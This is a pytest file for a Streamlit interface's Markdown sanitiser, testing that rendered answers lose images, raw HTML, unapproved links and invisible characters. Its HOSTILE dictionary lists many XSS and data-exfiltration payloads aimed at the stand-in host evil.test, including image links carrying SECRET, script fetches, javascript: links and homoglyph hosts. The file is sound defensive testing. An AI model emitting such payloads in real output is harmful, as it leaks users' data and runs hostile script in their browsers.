from __future__ import annotations

import ast
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.render import ALLOWED_HOSTS, highlight, link, mark_sentences, plain, render

UI_FOLDER = Path(__file__).resolve().parents[2] / "ui"

# Each would load, run or link something if it reached the page as it is.
HOSTILE = {
    # images
    "inline image": "![x](http://evil.test/a.png?q=SECRET)",
    "image with a title": '![x](http://evil.test/a.png "t")',
    "image in angle brackets": "![x](<http://evil.test/a b.png>)",
    "reference image": "![x][i]\n\n[i]: http://evil.test/a.png",
    "collapsed reference image": "![i][]\n\n[i]: http://evil.test/a.png",
    "shortcut reference image": "![i]\n\n[i]: http://evil.test/a.png",
    "image inside a link": "[![x](http://evil.test/a.png)](https://www.cnil.fr/)",
    "image inside a link text to an allowed host": "[a ![x](https://evil.test/a) b](https://cnil.fr)",
    "image in a heading": "# ![x](http://evil.test/a.png)",
    "image in a table": "| a |\n|---|\n| ![x](http://evil.test/a.png) |",
    "image in a quotation": "> ![x](http://evil.test/a.png)",
    "image in a list": "- ![x](http://evil.test/a.png)",
    "image in bold": "**![x](http://evil.test/a.png)**",
    "image on an allowed host": "![x](https://www.cnil.fr/logo.png)",
    "image with an escaped bracket": "!\\[x](http://evil.test/a.png)\n![x\\](http://evil.test/b.png)",
    "image as a data address": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "image without a protocol": "![x](//evil.test/a.png)",
    "image hidden by zero-width characters": "!\u200b[x](http://evil.test/a.png)",
    "image split by a word joiner": "!\u2060[x]\u2060(http://evil.test/a.png)",
    "half-written image": "text ![x](http://evil.test/a.p",
    "image after an entity": "&#33;[x](http://evil.test/a.png)",
    "nested brackets image": "![a[b]c](http://evil.test/a.png)",
    # raw HTML
    "script": "<script>fetch('http://evil.test/')</script>",
    "image tag": '<img src="http://evil.test/a.png" onerror="alert(1)">',
    "image tag inline": 'a <img src=http://evil.test/a.png> b',
    "iframe": '<iframe src="https://evil.test"></iframe>',
    "style": "<style>body{background:url(http://evil.test/a)}</style>",
    "anchor tag": '<a href="javascript:alert(1)">go</a>',
    "svg": '<svg onload="alert(1)">',
    "object": '<object data="http://evil.test/"></object>',
    "form": '<form action="http://evil.test/"><input name=q></form>',
    "base": '<base href="http://evil.test/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "comment": "<!-- <img src=http://evil.test/> -->",
    "unclosed comment": "<!-- <img src=http://evil.test/>",
    "unclosed tag": '<img src="http://evil.test/a.png" ',
    "processing instruction": "<?php echo 1 ?><img src=http://evil.test/>",
    "character data": "<![CDATA[<img src=http://evil.test/>]]>",
    "tag over two lines": '<img\nsrc="http://evil.test/a.png">',
    "upper-case tag": '<IMG SRC="http://evil.test/a.png">',
    "tag behind entities": "&lt;img src=http://evil.test/a.png&gt;",
    "tag split by a soft hyphen": "<im\u00adg src=http://evil.test/a.png>",
    # links
    "link elsewhere": "[go](http://evil.test/)",
    "link in disguise": "[https://www.cnil.fr](https://evil.test/)",
    "link to a plain-text allowed host": "[go](http://www.cnil.fr/)",
    "link with a user name": "[go](https://www.cnil.fr@evil.test/)",
    "link with a backslash": "[go](https://evil.test\\@www.cnil.fr/)",
    "link with a port": "[go](https://www.cnil.fr:8443/)",
    "link to a look-alike": "[go](https://www.cnil.fr.evil.test/)",
    "link to a subdomain": "[go](https://evil.cnil.fr/)",
    "link with a trailing dot": "[go](https://www.cnil.fr./)",
    "link with a Cyrillic letter": "[go](https://www.сnil.fr/)",
    "link with a malformed host": "[go](https://[www.cnil.fr/)",
    "link without a protocol": "[go](//evil.test/)",
    "relative link": "[go](/_stcore/metrics)",
    "javascript link": "[go](javascript:alert(1))",
    "javascript link with an entity": "[go](javascript&colon;alert(1))",
    "javascript link with a tab": "[go](java\tscript:alert(1))",
    "javascript link with a control": "[go](\u0001javascript:alert(1))",
    "vbscript link": "[go](vbscript:msgbox)",
    "data link": "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[go](file:///etc/passwd)",
    "reference link": "[go][1]\n\n[1]: https://evil.test/",
    "numbered mark turned into a link": "A claim [1].\n\n[1]: https://evil.test/",
    "automatic link": "<https://evil.test/>",
    "automatic e-mail link": "<a@evil.test>",
    "bare address": "see https://evil.test/?q=SECRET now",
    "bare upper-case address": "see HTTPS://EVIL.TEST/ now",
    "bare address with www": "see www.evil.test now",
    "bare e-mail": "write to a@evil.test now",
    "bare address in brackets": "(https://evil.test/)",
    "bare address in bold": "**https://evil.test/**",
    "bare address split by an escape": "https\\://evil.test/ http:\\/\\/evil.test/",
    "bare address split by an entity": "https&colon;//evil.test/",
    "bare address split by a zero-width space": "https:\u200b//evil.test/",
    "bare address beginning with an allowed one": "https://www.cnil.fr@evil.test/",
    "bare address in a code span": "`https://evil.test/`",
    "bare address in a table": "| a |\n|---|\n| www.evil.test |",
    "footnote": "a[^1]\n\n[^1]: https://evil.test/",
    # the page's own extensions
    "mathematics": "$\\href{http://evil.test/}{x}$",
    "display mathematics": "$$\\includegraphics{http://evil.test/a.png}$$",
    "mathematics of several lines": "$$\nx\n$$",
    "colour directive": ":red[alarm]",
    "badge directive": ":green-badge[✓ mots exacts]",
    "background directive": ":orange-background[✓]",
    "help directive": ":help[x]",
    "leaf directive": "::red[alarm]",
    "container directive": ":::note\ntext\n:::",
    "material icon": ":material/verified:",
    "emoji shortcode": ":white_check_mark: :+1: :-1:",
    "emoji shortcode by escape": "\\:smile\\:",
    "logo": ":streamlit:",
    "diagram": "```mermaid\ngraph TD; A-->B; click A \"http://evil.test/\"\n```",
    "tilde fence": "~~~html\n<img src=http://evil.test/>\n~~~",
    "indented code": "    <img src=http://evil.test/a.png>",
    # invisible and turning characters
    "right-to-left override": "loi \u202eselaV\u202c",
    "isolates": "a\u2066b\u2069c",
    "tag characters": "a\U000e0041\U000e0042b",
    "null and bell": "a\x00b\x07c\x1b[31md",
    "variation selectors": "a\ufe0fb\U000e0100c",
    "byte order mark": "\ufeffa",
}  # fmt: skip

SHORTCODE = re.compile(r":[\w+/\-]+:")
AUTOLINK = re.compile(r"(?i)https?://|www\.|[\w.+-]@[\w-]")
INVISIBLE = re.compile("[\u0000-\u0009\u000b-\u001f\u00ad\u200b-\u200f\u202a-\u202e\u2061-\u2069\ufe00-\ufe0f\ufeff\U000e0000-\U000e01ef]")  # fmt: skip


def tokens_of(markdown: str) -> Iterator[Token]:
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        yield token
        yield from token.children or ()


def problems(markdown: str) -> list[str]:
    """What the page could still make of our output: nothing, if it is safe."""
    found = []
    in_link = 0
    for token in tokens_of(markdown):
        if token.type in (
            "image",
            "html_inline",
            "html_block",
            "fence",
            "code_block",
            "code_inline",
        ):
            found.append(token.type)
        if token.type == "link_open":
            in_link += 1
            address = str(token.attrs["href"])
            if not any(
                address.startswith(f"https://{host}/") or address == f"https://{host}"
                for host in ALLOWED_HOSTS
            ):
                found.append(address)
        if token.type == "link_close":
            in_link -= 1
        # These run on the words themselves, after the escapes are gone.
        if token.type == "text" and SHORTCODE.search(token.content):
            found.append(f"shortcode {token.content!r}")
        if token.type == "text" and not in_link and AUTOLINK.search(token.content):
            found.append(f"bare address {token.content!r}")
    if re.search(r"(?<!\\)\$", markdown):
        found.append("mathematics")
    if re.search(r"(?<!\\):(?=[a-z:])(?![^\n]*>\))", markdown):
        found.append("directive")
    if INVISIBLE.search(markdown):
        found.append("invisible characters")
    return found


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_is_reduced_to_words(payload: str) -> None:
    assert problems(render(payload)) == []
    assert problems(plain(payload)) == []
    assert (
        problems(highlight(f"avant {payload} après", payload).replace(":orange-background", ""))
        == []
    )


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_is_harmless_at_every_moment_of_its_streaming(payload: str) -> None:
    for end in range(len(payload)):
        assert problems(render(payload[:end])) == []


@pytest.mark.parametrize(
    "payload",
    [
        "![x](http://evil.test/)",
        "<b>x</b>",
        "[x](http://evil.test/)",
        "www.evil.test",
        "a@evil.test",
        ":smile:",
        "$x$",
        ":red[x]",
        "`x`",
        "a\u200bb",
    ],
)
def test_the_detector_of_these_tests_sees_what_it_looks_for(payload: str) -> None:
    assert problems(payload) != []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="!<>[]()*_`~|:$\\/#-=+@&;.\"' \n\u200babcwhtps1", max_size=80))
def test_no_text_at_all_survives_as_more_than_words(text: str) -> None:
    assert problems(render(text)) == []
    assert problems(plain(text)) == []


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="*_`[]()<>!:$\\ \nab1.-#>|", max_size=60))
def test_plain_text_keeps_every_visible_word(text: str) -> None:
    shown = "".join(token.content for token in tokens_of(plain(text)) if token.type == "text")
    assert re.sub(r"[\s\u2060]", "", shown) == re.sub(r"\s", "", text)


def test_the_formatting_an_answer_needs_is_kept() -> None:
    text = (
        "**Oui**, *sauf* :\n\n- un\n- deux\n  1. trois\n\n> mot\n\n| a | b |\n|---|---|\n| c | d |"
    )
    kinds = {token.type for token in tokens_of(render(text))}
    assert {
        "strong_open",
        "em_open",
        "bullet_list_open",
        "ordered_list_open",
        "blockquote_open",
        "table_open",
    } <= kinds


def test_rendering_twice_changes_nothing() -> None:
    text = "1. **a** [1]\n   - b\n\n> c — *d*\n\nhttps://www.cnil.fr/fr/x et www.evil.test"
    assert render(render(text)) == render(text)


def test_an_address_of_an_allowed_host_stays_a_link() -> None:
    for text in (
        "[le texte](https://eur-lex.europa.eu/legal-content/FR/TXT/?uri=CELEX:02016R0679-20160504)",
        "<https://www.legifrance.gouv.fr/codes/texte_lc/LEGITEXT000006070987>",
        "voir https://www.cnil.fr/fr/cookies.",
        "[x](https://www.edpb.europa.eu/a_b_(c))",
    ):
        assert any(token.type == "link_open" for token in tokens_of(render(text))), text


def test_a_dropped_link_keeps_its_words() -> None:
    assert render("Lisez [notre guide](https://evil.test/) ici") == "Lisez notre guide ici"


def test_a_citation_mark_stays_a_mark() -> None:
    assert render("Oui [1] [2].") == r"Oui \[1\] \[2\]\."


def test_a_dropped_tag_keeps_its_words() -> None:
    assert render("<div>mot</div>\n\nun <b>autre</b>") == "mot\n\nun autre"


def test_headings_of_an_answer_never_outrank_the_page() -> None:
    assert render("# Titre *fort* [1]\n\nmot") == "**Titre fort \\[1\\]**\n\nmot"


def test_french_spaces_are_kept() -> None:
    assert render("« mot » ?") == "« mot » ?"


def test_an_arrow_of_the_text_is_not_redrawn_by_the_page() -> None:
    assert render("a -> b") == "a \\-\u2060\\> b"


def test_the_quoted_words_are_highlighted_where_they_stand() -> None:
    assert (
        highlight("Un. Deux mots. Trois.", "Deux mots.")
        == r"Un\. :orange-background[Deux mots\.] Trois\."
    )


def test_a_quote_is_found_through_line_ends_and_apostrophes() -> None:
    shown = highlight("Un, l'avis\nde tous. Fin.", "l’avis de tous")
    assert shown == "Un, :orange-background[l'avis]\n\n:orange-background[de tous]\\. Fin\\."


def test_a_quote_that_is_not_there_highlights_nothing() -> None:
    assert highlight("Un. Deux.", "Trois") == r"Un\. Deux\."
    assert highlight("Un. Deux.", "") == r"Un\. Deux\."


def test_an_unsupported_sentence_is_marked_and_an_untraceable_one_is_returned() -> None:
    text, absent = mark_sentences("Oui [1]. La lune.", ("La lune.", "Absente."), "sans citation")
    assert text == r"Oui \[1\]\. :orange-background[La lune\.] :orange[*(sans citation)*]"
    assert absent == ["Absente."]


def test_a_link_of_ours_needs_an_allowed_host_too() -> None:
    assert link("Texte", "https://www.cnil.fr/x") == "[Texte](<https://www.cnil.fr/x>)"
    assert link("Texte", "javascript:alert(1)") == "Texte"
    assert link("Texte", "https://evil.test/") == "Texte"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 5000,
        "![[" * 2000,
        "*a " * 5000,
        "> " * 3000,
        "<" * 5000,
        "`" * 5000,
        "|a" * 2000 + "\n" + "|-" * 2000,
    ],
)
def test_a_text_made_to_be_slow_is_not(text: str) -> None:
    started = time.process_time()
    render(text)
    assert time.process_time() - started < 3


def _calls(tree: ast.AST) -> Iterator[ast.Call]:
    return (node for node in ast.walk(tree) if isinstance(node, ast.Call))


@pytest.mark.parametrize("path", sorted(UI_FOLDER.rglob("*.py")), ids=lambda path: path.name)
def test_no_screen_shows_html_of_variable_text(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for call in _calls(tree):
        given = {keyword.arg for keyword in call.keywords}
        assert "unsafe_allow_html" not in given
        # One script, a constant of ours, brings a new question into view.
        assert "unsafe_allow_javascript" not in given or path.name == "style.py"
        name = call.func.attr if isinstance(call.func, ast.Attribute) else ""
        if name in ("html", "iframe"):
            assert name == "html" and all(
                isinstance(argument, ast.Constant) for argument in call.args
            )
    imported = {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    }
    assert not any("components" in name for name in imported)
